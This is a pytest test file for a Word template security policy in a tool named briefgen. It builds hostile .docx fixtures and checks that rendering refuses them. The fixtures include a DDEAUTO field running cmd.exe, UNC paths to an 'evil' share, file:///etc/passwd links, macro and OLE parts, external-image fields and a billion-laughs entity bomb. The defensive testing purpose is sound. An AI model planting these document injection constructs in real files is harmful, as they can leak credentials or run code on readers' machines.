"""The Word content policy: templates (and what they render) may not load or run
outside content; render refuses with one located line, check lists each finding."""

from __future__ import annotations

import re

import pytest
from docx_helpers import body_text
from hostile import (MS_REL, REL, billion_laughs, linked_picture, one_run_field, paragraph,
                     plain_template,
                     read_part, rebuild, simple_field, split_field, with_body, with_content_type,
                     with_default_type, with_relationship)

from briefgen.check import check_template
from briefgen.cli import main
from briefgen.errors import TemplateSecurityError
from briefgen.offices import OfficeProfile
from briefgen.render import render_briefing
from briefgen.templates import read_template_info

UNC = "\\\\evil\\share\\x.dotm"


def attached_template(data: bytes) -> bytes:
    data = with_relationship(data, "rId1", f"{REL}attachedTemplate", UNC,
                             rels="word/_rels/settings.xml.rels")
    settings = read_part(data, "word/settings.xml")
    settings = re.sub(r"(<w:settings[^>]*>)", r'\1<w:attachedTemplate r:id="rId1"/>', settings)
    if "xmlns:r=" not in settings:
        settings = settings.replace("<w:settings ", f'<w:settings xmlns:r="{REL[:-1]}" ', 1)
    return rebuild(data, {"word/settings.xml": settings})


def external_image(data: bytes) -> bytes:
    data = with_relationship(data, "rId90", f"{REL}image", "http://127.0.0.1:9/pixel.png")
    return with_body(data, linked_picture("rId90"))


def vba(data: bytes) -> bytes:
    data = with_relationship(data, "rId91", f"{MS_REL}vbaProject", "vbaProject.bin",
                             external=False)
    data = with_default_type(data, "bin", "application/vnd.ms-office.vbaProject")
    return rebuild(data, {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 not really"})


def docm(data: bytes) -> bytes:
    return with_content_type(data, "/word/document.xml",
                             "application/vnd.ms-word.document.macroEnabled.main+xml")


def alt_chunk(data: bytes) -> bytes:
    data = with_relationship(data, "rId92", f"{REL}aFChunk", "afchunk.mht", external=False)
    data = with_default_type(data, "mht", "message/rfc822")
    data = rebuild(data, {"word/afchunk.mht": "MIME-Version: 1.0\r\n\r\n<img src=x>"})
    return with_body(data, '<w:altChunk r:id="rId92"/>')


def ole_object(data: bytes) -> bytes:
    data = with_relationship(data, "rId93", f"{REL}oleObject", "embeddings/oleObject1.bin",
                             external=False)
    data = with_default_type(data, "bin",
                             "application/vnd.openxmlformats-officedocument.oleObject")
    data = rebuild(data, {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"})
    return with_body(data, paragraph(
        '<w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" r:id="rId93"/>'
        '</w:object></w:r>'))


def frames(data: bytes) -> bytes:
    settings = read_part(data, "word/webSettings.xml")
    settings = settings.replace("/>", "><w:frameset/></w:webSettings>", 1) \
        if settings.rstrip().endswith("/>") else \
        settings.replace("</w:webSettings>", "<w:frameset/></w:webSettings>")
    return rebuild(data, {"word/webSettings.xml": settings})


# name -> (build, the part, the start of what the one line says after the part)
FORBIDDEN = {
    "attached template on a UNC path": (
        attached_template, "word/_rels/settings.xml.rels",
        f"the template links to an external file ({UNC}, attachedTemplate)"),
    "external image": (
        external_image, "word/_rels/document.xml.rels",
        "the template links to an external file (http://127.0.0.1:9/pixel.png, image)"),
    "sub-document": (
        lambda d: with_relationship(d, "rId94", f"{REL}subDocument", "file:///c:/sub.docx"),
        "word/_rels/document.xml.rels",
        "the template links to an external file (file:///c:/sub.docx, subDocument)"),
    "hyperlink to a UNC path": (
        lambda d: with_relationship(d, "rId95", f"{REL}hyperlink", "\\\\evil\\share"),
        "word/_rels/document.xml.rels",
        "the template links to '\\\\\\\\evil\\\\share', which is not an http, https or mailto"),
    "hyperlink to a file": (
        lambda d: with_relationship(d, "rId95", f"{REL}hyperlink", "file:///etc/passwd"),
        "word/_rels/document.xml.rels",
        "the template links to 'file:///etc/passwd', which is not an http, https or mailto"),
    "HYPERLINK field to a UNC path": (
        lambda d: with_body(d, split_field('HYPERLINK \\o "tip" "\\\\evil\\share\\a.docx"')),
        "word/document.xml", "the template links to '\\\\\\\\evil\\\\share\\\\a.docx', "
        "which is not an http"),
    "INCLUDEPICTURE split over runs": (
        lambda d: with_body(d, split_field(' INCLUDEPICTURE "http://127.0.0.1:9/p.png" \\d ')),
        "word/document.xml", "the template includes a picture from outside (field "
        'INCLUDEPICTURE "http://127.0.0.1:9/p.png" \\d)'),
    "DDEAUTO in lower case": (
        lambda d: with_body(d, simple_field(' ddeauto c:\\\\windows\\\\cmd.exe "/k calc" ')),
        "word/document.xml", "the template exchanges data with another program (field ddeauto"),
    "DDE": (lambda d: with_body(d, simple_field("DDE excel sheet1 r1c1")), "word/document.xml",
            "the template exchanges data with another program (field DDE"),
    "INCLUDETEXT": (lambda d: with_body(d, split_field('INCLUDETEXT "c:\\\\secret.docx"')),
                    "word/document.xml", "the template includes text from another file"),
    "LINK": (lambda d: with_body(d, simple_field('LINK Excel.Sheet.8 "c:\\\\a.xls" "" \\a')),
             "word/document.xml", "the template links to another file (field LINK"),
    "IMPORT": (lambda d: with_body(d, simple_field('IMPORT "http://127.0.0.1:9/x.wmf"')),
               "word/document.xml", "the template imports a picture from outside"),
    "altChunk": (alt_chunk, "word/_rels/document.xml.rels",
                 "the template imports an alternative-format chunk (altChunk) (afchunk.mht)"),
    "macros (vbaProject.bin)": (vba, "word/vbaProject.bin",
                                "the template holds macros (word/vbaProject.bin): "
                                "templates may not run code"),
    "macro-enabled content type": (docm, "[Content_Types].xml",
                                   "the template is a macro-enabled document (.docm/.dotm)"),
    "key map customisations": (
        lambda d: rebuild(d, {"word/keyMapCustomizations.xml": "<x/>"}),
        "word/keyMapCustomizations.xml", "the template holds macro key bindings"),
    "ActiveX": (lambda d: rebuild(d, {"word/activeX/activeX1.xml": "<ax:ocx xmlns:ax='x'/>"}),
                "word/activeX/activeX1.xml", "the template holds an ActiveX control"),
    "OLE object": (ole_object, "word/embeddings/oleObject1.bin",
                   "the template holds an embedded object (word/embeddings/oleObject1.bin)"),
    "mail merge": (
        lambda d: rebuild(d, {"word/settings.xml": read_part(d, "word/settings.xml").replace(
            "</w:settings>", '<w:mailMerge><w:mainDocumentType w:val="formLetters"/>'
            '<w:connectString w:val="Data Source=\\\\evil\\x.mdb"/></w:mailMerge>'
            "</w:settings>")}),
        "word/settings.xml", "the template is a mail merge linked to a data source"),
    "SVG picture with an external image": (
        lambda d: rebuild(with_default_type(d, "svg", "image/svg+xml"), {
            "word/media/image9.svg": '<svg xmlns="http://www.w3.org/2000/svg" '
            'xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href='
            '"http://127.0.0.1:9/p.png"/></svg>'}),
        "word/media/image9.svg",
        "the template shows a picture that links to 'http://127.0.0.1:9/p.png'"),
    "frames": (frames, "word/webSettings.xml", "the template shows frames"),
    "DOCTYPE (billion laughs in footnotes.xml)": (
        lambda d: rebuild(d, {"word/footnotes.xml": billion_laughs()}), "word/footnotes.xml",
        "the template declares a <!DOCTYPE>: templates may not declare XML entities"),
}


@pytest.fixture(params=sorted(FORBIDDEN), ids=lambda name: name.replace(" ", "-"))
def hostile(request, tmp_path):
    build, part, message = FORBIDDEN[request.param]
    path = tmp_path / "evil.docx"
    path.write_bytes(build(plain_template()))
    return path, part, message


def test_render_refuses_with_one_located_line(hostile, capsys, sample_path, tmp_path):
    path, part, message = hostile
    out = tmp_path / "out.docx"
    code = main(["render", str(sample_path), "-t", str(path), "-o", str(out)])
    err = capsys.readouterr().err
    assert code == 1
    assert err.count("\n") == 1 and "Traceback" not in err
    located = ", ".join(x for x in (part, check_template(path)[0].location) if x)
    assert err.startswith(f"briefgen: error: evil: {located}: {message}")
    assert not out.exists() and sorted(p.name for p in tmp_path.iterdir()) == ["evil.docx"]


def test_check_lists_the_finding_with_its_part(hostile, capsys):
    path, part, message = hostile
    code = main(["check", str(path)])
    out = capsys.readouterr().out
    assert code == 1
    assert any(line.startswith(f"evil: {part}") and message in line for line in out.splitlines())


def test_the_exact_line_for_an_attached_template(capsys, sample_path, tmp_path):
    path = tmp_path / "memo.docx"
    path.write_bytes(attached_template(plain_template()))
    assert main(["render", str(sample_path), "-t", str(path), "-o", str(tmp_path / "o.docx")]) == 1
    assert capsys.readouterr().err == (
        "briefgen: error: memo: word/_rels/settings.xml.rels, relationship rId1: the template "
        "links to an external "
        f"file ({UNC}, attachedTemplate): templates may not load outside content (remove it in "
        "Word: Developer › Document Template)\n")


def test_check_locates_fields_by_paragraph(tmp_path):
    path = tmp_path / "evil.docx"
    path.write_bytes(with_body(plain_template(), split_field("INCLUDEPICTURE http://x/p.png")))
    problems = check_template(path)
    assert [(p.part, p.location) for p in problems] == [("word/document.xml", "paragraph 2")]


def test_a_field_assembled_by_a_tag_is_refused_in_the_output(sample, tmp_path):
    """The template's field code reads `{{ 'INCLUDE' }}PICTURE`: only the rendered
    document says INCLUDEPICTURE, and that is where it is caught."""
    path = tmp_path / "sly.docx"
    path.write_bytes(with_body(plain_template(),
                               one_run_field("{{ 'INCL' + 'UDE' }}PICTURE http://127.0.0.1:9/p")))
    info = read_template_info(path)
    with pytest.raises(TemplateSecurityError) as caught:
        render_briefing(sample, info, OfficeProfile())
    assert str(caught.value).startswith(
        "sly: word/document.xml, paragraph 2: the rendered document includes a picture from outside "
        "(field INCLUDEPICTURE http://127.0.0.1:9/p): rendered documents may not load")
    problems = [str(p) for p in check_template(path)]
    assert len(problems) == 1 and "the rendered document includes a picture" in problems[0]


def test_harmless_look_alikes_pass(sample, tmp_path):
    """Field names in ordinary text, page-number fields and web hyperlinks are fine."""
    data = with_body(plain_template("INCLUDEPICTURE and DDEAUTO are only words here"),
                     split_field(" PAGE ") + simple_field(" NUMPAGES ")
                     + simple_field('HYPERLINK "https://example.org" \\o "tip"')
                     + simple_field('HYPERLINK \\l "_Toc1"'))
    data = with_relationship(data, "rId96", f"{REL}hyperlink", "https://example.org/a?b=c")
    data = with_relationship(data, "rId97", f"{REL}hyperlink", "mailto:desk@example.org")
    path = tmp_path / "fine.docx"
    path.write_bytes(data)
    assert check_template(path) == []
    text = body_text(render_briefing(sample, read_template_info(path), OfficeProfile()))
    assert "INCLUDEPICTURE and DDEAUTO are only words here" in text


def test_builtin_templates_and_their_output_pass(sample):
    from briefgen.templates import list_templates

    for info in list_templates():
        render_briefing(sample, info, OfficeProfile())   # raises on any finding


def test_a_part_is_judged_by_its_own_bytes_each_time(sample, tmp_path):
    """Scans are recalled by a part's name and bytes: a part renamed, or changed by
    one tag, is scanned afresh; a finding recalled is still a finding."""
    from briefgen import wordpolicy

    clean = read_part(plain_template(), "word/document.xml").encode()
    evil = read_part(with_body(plain_template(), split_field("INCLUDEPICTURE http://x/p.png")),
                     "word/document.xml").encode()
    for _ in range(2):
        assert wordpolicy.scan({"word/document.xml": clean}) == []
        found = wordpolicy.scan({"word/document.xml": evil})
        assert [(f.part, f.location) for f in found] == [("word/document.xml", "paragraph 2")]
        assert [f.part for f in wordpolicy.scan({"word/header1.xml": evil})] == ["word/header1.xml"]

    path = tmp_path / "sly.docx"
    path.write_bytes(with_body(plain_template(),
                               one_run_field("{{ 'INCL' + 'UDE' }}PICTURE http://127.0.0.1:9/p")))
    for _ in range(2):          # the second render's parts are recalled, and refused again
        with pytest.raises(TemplateSecurityError, match="includes a picture from outside"):
            render_briefing(sample, read_template_info(path), OfficeProfile())
